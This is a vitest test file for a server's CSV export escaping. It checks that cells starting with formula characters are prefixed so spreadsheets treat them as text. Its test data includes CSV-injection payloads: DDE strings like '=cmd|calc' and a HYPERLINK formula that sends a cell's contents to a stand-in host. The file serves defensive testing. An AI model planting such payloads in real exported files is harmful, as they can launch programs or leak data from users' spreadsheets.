/** Tables as CSV, as they are opened by a spreadsheet. */

import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { asText, csvLine } from '../../server/csv.ts';
import { ErrorFile } from '../../server/people/error-file.ts';
import { reportCsv } from '../../server/reports/report-csv.ts';
import type { ReportAnswer } from '../../server/wire/reports.ts';

const formulas = [
  ...['=1+1', '+cmd|calc', '-2+cmd', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＠SUM(A1)'],
  '=HYPERLINK("http://example.com?"&A1,"x")',
];

test.each(formulas)('%j is no formula to a spreadsheet', (text) => {
  expect(asText(text)).toBe(`'${text}`);
});

test.each(['+81 (3) 1234-5678', '-5', '', 'tea', '髙橋', '3=2'])('%j stays as it is', (text) => {
  expect(asText(text)).toBe(text);
});

test('quotes, commas and ends of lines stay within their cell', () => {
  const cells = ['say "yes"', 'a,b', 'one\r\ntwo', 'plain', '",=1+1'];
  expect(csvLine(cells)).toBe('"say ""yes""","a,b","one\r\ntwo",plain,""",=1+1"\r\n');
});

test('a report has hostile names as text, and figures as figures', () => {
  const answer = {
    columns: [
      { id: 'queue', kind: 'name' },
      { id: 'offered', kind: 'count' },
      { id: 'reason', kind: 'text' },
    ],
    rows: [['support', -3, '=2+5\n"x"']],
    subjects: [{ id: 'support', name: { en: '@SUM(A1),"x"', ja: '＝1' } }],
  } as unknown as ReportAnswer;
  expect(reportCsv(answer)).toBe(
    `\ufeffqueue,queue_en,queue_ja,offered,reason\r\nsupport,"'@SUM(A1),""x""",'＝1,-3,"'=2+5\n""x"""\r\n`,
  );
});

test('rows that were not understood are handed back without a formula', () => {
  const folder = mkdtempSync(join(tmpdir(), 'tsunagi-csv-'));
  const path = join(folder, 'people.errors.csv');
  const file = new ErrorFile(path, 0, ['name', 'number', '=note']);
  file.add({ line: 2, cells: ['=cmd|calc', '+81-3-1234', 'a,"b"'] }, ['too short']);
  file.flush();
  file.close();
  expect(readFileSync(path, 'utf8')).toBe(
    `\ufeffline,reason,name,number,'=note\r\n2,too short,'=cmd|calc,+81-3-1234,"a,""b"""\r\n`,
  );
  rmSync(folder, { recursive: true });
});
